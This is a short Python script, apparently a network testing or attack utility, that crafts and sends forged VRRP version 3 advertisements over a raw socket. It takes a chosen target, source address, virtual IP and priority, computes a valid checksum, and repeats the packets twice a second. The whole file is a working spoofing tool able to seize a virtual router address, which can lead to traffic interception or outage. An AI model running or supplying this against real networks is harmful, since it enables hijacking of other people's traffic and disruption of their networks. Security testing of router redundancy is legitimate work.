# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends forged VRRP version 3 adverts, two each second: TARGET SOURCE VIP PRIORITY COUNT.

The checksum is computed for SOURCE, which can be the address to which NAT changes the packet's source on its way.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

VRRP, ROUTER, INTERVAL = 112, 51, 50


def advert(source: str, target: str, vip: str, priority: int) -> bytes:
    body = struct.pack("!BBBBHH4s", 0x31, ROUTER, priority, 1, INTERVAL, 0, socket.inet_aton(vip))
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, VRRP, len(body))
    total = sum(struct.unpack(f"!{len(pseudo + body) // 2}H", pseudo + body))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return body[:6] + struct.pack("!H", ~total & 0xFFFF) + body[8:]


target, source, vip = sys.argv[1:4]
with socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP) as way:
    way.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
    for _number in range(int(sys.argv[5])):
        way.sendto(advert(source, target, vip, int(sys.argv[4])), (target, 0))
        time.sleep(0.5)
